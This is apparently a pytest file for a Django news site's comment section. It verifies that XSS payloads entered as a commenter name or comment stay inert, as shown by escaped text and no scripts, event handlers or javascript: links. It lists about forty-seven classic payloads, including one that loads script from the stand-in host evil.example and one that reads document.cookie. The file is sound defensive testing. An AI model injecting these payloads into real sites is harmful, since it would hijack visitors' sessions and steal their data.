"""Every classic XSS payload typed as a name or a comment renders inert, shown as typed."""

import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from newsdesk.discussion import text as comment_text
from newsdesk.discussion.models import Comment
from tests.discussion.reader import post_comment, soup

pytestmark = pytest.mark.django_db

SANITIZER_CASES = (
    Path(__file__).resolve().parents[3] / "shared/data/xss/html5lib-sanitizer-tests1.dat"
)

OUR_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    " \tjavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<a href="&#106;avascript:alert(1)">entity</a>',
    "&#x6A;avascript:alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<a\u00a0href=javascript:alert(1)>nbsp</a>",
    '<a href="https://example.org" onclick="alert(1)">looks fine</a>',
    'http://example.org/"onmouseover="alert(1)',
    "http://example.org/<script>alert(1)</script>",
    "www.example.org?<img src=x onerror=alert(1)>",
    'https://example.org/?q="><svg/onload=alert(1)>',
    'x@example.org"><script>alert(1)</script>',
    "mailto:x@example.org?body=<script>alert(1)</script>",
    "{{ 7|add:42 }} {% now 'Y' %}",
    "${alert(1)} `${alert(1)}`",
    "line one\r\n<script>\r\nalert(1)\r\n</script>",
]

DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background"}


def sanitizer_cases() -> list[str]:
    if not SANITIZER_CASES.exists():
        return []
    return [case["input"] for case in json.loads(SANITIZER_CASES.read_text())]


def assert_inert(page: BeautifulSoup) -> None:
    """No script from input, no event handler, no dangerous URL, no active element."""
    for script in page.find_all("script"):
        if script.get("type") in ("application/ld+json", "application/json"):
            # A data block (structured data), never run: whole JSON, nothing broke out of it.
            json.loads(script.get_text())
            continue
        # Otherwise only the site's own static scripts (discussion, reactions), never inline code.
        assert str(script.get("src", "")).startswith("/static/"), script
        assert not script.get_text(strip=True), script
    for tag in page.find_all(True):
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), tag
            if name.lower() in URL_ATTRIBUTES:
                cleaned = re.sub(r"[\x00-\x20]", "", str(value))
                assert not DANGEROUS_SCHEME.match(cleaned), tag
    for name in ("iframe", "object", "embed", "svg", "math", "base", "img", "style", "frame"):
        assert page.find(name) is None, name
    assert page.find("meta", attrs={"http-equiv": True}) is None
    for text in page.select(".comment__text"):
        assert {tag.name for tag in text.find_all(True)} <= {"a", "br"}, text
        for link in text.find_all("a"):
            assert link["rel"] == ["nofollow", "ugc"]
            assert link["href"].startswith(("http://", "https://", "mailto:"))
    for name in page.select(".comment__author"):
        assert name.find(True) is None, name


def payloads() -> list[str]:
    return sanitizer_cases() + OUR_PAYLOADS


def test_the_shared_sanitizer_cases_are_used():
    if not SANITIZER_CASES.exists():
        pytest.skip(f"{SANITIZER_CASES} is absent; only our own payloads run")
    assert len(sanitizer_cases()) >= 70


def test_every_payload_as_name_and_text_renders_inert(client, story, post_moderated, settings):
    settings.NEWSDESK_COMMENTS_PER_PAGE = 1000
    # Every payload comes from one reader in a few seconds: a flood, but not the one tested here.
    settings.NEWSDESK_COMMENT_LIMIT_PER_EMAIL = 0
    settings.NEWSDESK_COMMENT_LIMIT_PER_IP = 0
    expected = {}
    for payload in payloads():
        response = post_comment(client, story, json=True, author_name=payload[:100], text=payload)
        if "\x00" in payload or not payload.strip():
            assert response.status_code == 400  # refused before it is ever stored
            continue
        assert response.status_code == 201, (payload, response.json())
        data = response.json()
        assert_inert(BeautifulSoup(data["comment_html"], "html.parser"))
        expected[data["comment_id"]] = payload

    page = soup(client.get(story.get_absolute_url()))
    assert_inert(page)
    for comment_id, payload in expected.items():
        item = page.find("li", id=f"comment-{comment_id}")
        name = " ".join(comment_text.normalise(payload[:100]).split())
        assert item.select_one(".comment__author").get_text() == name
        shown = comment_text.normalise(payload).strip().replace("\n", "")
        assert item.select_one(".comment__text").get_text() == shown
    assert Comment.objects.count() == len(expected)


@pytest.mark.parametrize("payload", OUR_PAYLOADS[:12])
def test_payloads_stay_inert_on_the_error_reply_and_posted_pages(client, story, payload):
    refused = post_comment(client, story, author_name=payload[:100], text=payload + "x" * 1500)
    assert refused.status_code == 400
    assert_inert(soup(refused))
    kept = soup(refused).find("textarea", attrs={"name": "text"}).get_text()
    assert kept.lstrip("\n") == payload + "x" * 1500  # a browser drops the first newline

    posted = post_comment(client, story, author_name=payload[:100], text=payload)
    assert_inert(soup(client.get(posted["Location"])))
    comment = Comment.objects.latest("pk")
    Comment.objects.filter(pk=comment.pk).update(status="approved")
    assert_inert(soup(client.get(f"/en/discussion/reply/{comment.pk}/")))
